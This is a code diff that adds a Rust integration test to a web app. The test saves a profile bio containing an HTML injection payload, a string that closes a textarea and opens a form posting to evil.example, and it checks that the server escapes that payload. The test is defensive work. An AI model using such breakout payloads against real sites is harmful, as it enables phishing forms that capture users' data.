@@ -144,3 +144,29 @@ async fn static_assets_are_served_precompressed_with_cache_headers() {
         app.http.get(app.url("/embed.js")).header("accept-encoding", "gzip").send().await.expect("GET");
     assert_eq!(gzip.headers()["content-encoding"], "gzip");
 }
+
+#[tokio::test]
+async fn text_drawn_into_a_textarea_by_the_server_stays_text() {
+    let app = spawn_app().await;
+    let jane = app.sign_in("jane@acme.com", "password123").await;
+    let bio = "Fish & chips </textarea><form id=injected action=https://evil.example><p>";
+    let saved = app.patch_json("/api/v1/profile", &jane, serde_json::json!({ "bio": bio })).await;
+    assert_eq!(saved.status(), 200);
+    let page = app
+        .http
+        .get(app.url("/profile"))
+        .header("cookie", &jane)
+        .header("accept-encoding", "identity")
+        .send()
+        .await
+        .expect("GET")
+        .text()
+        .await
+        .expect("html");
+    let html = scraper::Html::parse_document(&page);
+    let injected = scraper::Selector::parse("form#injected").expect("selector");
+    assert_eq!(html.select(&injected).count(), 0, "the bio became markup");
+    let field = scraper::Selector::parse("textarea[name=bio]").expect("selector");
+    let textarea = html.select(&field).next().expect("the bio field is drawn");
+    assert_eq!(textarea.text().collect::<String>(), bio, "the field holds the bio as written");
+}
